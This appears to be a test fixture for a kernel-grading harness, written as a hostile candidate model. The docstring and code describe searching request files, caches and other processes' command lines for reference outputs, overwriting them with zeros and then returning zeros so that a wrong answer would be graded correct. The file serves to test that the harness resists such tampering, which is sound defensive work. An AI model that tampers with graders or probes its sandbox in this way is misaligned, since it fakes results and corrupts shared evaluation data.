"""Sandbox attack: forges its verdict by rewriting the expected outputs, then returns zeros.

It looks for the reference everywhere it might be: every path named in its own request file
(sys.argv), kernelpro's cache directory (the test tells it where that is), ~/.cache/kernelpro, and
the parent processes' command lines. Every file it finds under a `references` or `expected` folder
it overwrites with the bytes a zero tensor would have in the same file. A correct harness: the
verdict is incorrect (zeros are not swish), and an honest candidate evaluated after it is still
correct (the shared reference cache was not poisoned, or was caught by its content hash).
"""
import json
import os
import sys

import torch
import torch.nn as nn

from _attack import attempt

TARGETS = {}


def _paths_in(value):
    if isinstance(value, str) and value.startswith("/"):
        yield value
    elif isinstance(value, dict):
        for v in value.values():
            yield from _paths_in(v)
    elif isinstance(value, list):
        for v in value:
            yield from _paths_in(v)


def _roots():
    roots = list(TARGETS.get("cache_dirs", [])) + [os.path.expanduser("~/.cache/kernelpro")]
    for arg in sys.argv:
        if arg.endswith(".json") and os.path.exists(arg):
            request = attempt(lambda: json.load(open(arg))) or {}
            roots += list(_paths_in(request))
    for pid in os.listdir("/proc"):
        cmdline = attempt(lambda: open(f"/proc/{pid}/cmdline", "rb").read()) or b""
        roots += [a.decode(errors="ignore") for a in cmdline.split(b"\0") if a.startswith(b"/")]
    return roots


def _overwrite(path):
    size = os.path.getsize(path)
    with open(path, "r+b") as f:
        f.seek(max(0, size - 4 * 4096))  # the tail: where a raw fp32 tensor's bytes would be
        f.write(b"\0" * min(size, 4 * 4096))
    return path


def _poison():
    done = []
    for root in _roots():
        for folder, _, files in attempt(lambda: list(os.walk(root))) or []:
            if "references" in folder or "expected" in folder:
                for name in files:
                    r = attempt(lambda: _overwrite(os.path.join(folder, name)))
                    if r:
                        done.append(r)
    return done


POISONED = _poison()


class ModelNew(nn.Module):
    def forward(self, x):
        _poison()
        return torch.zeros_like(x)
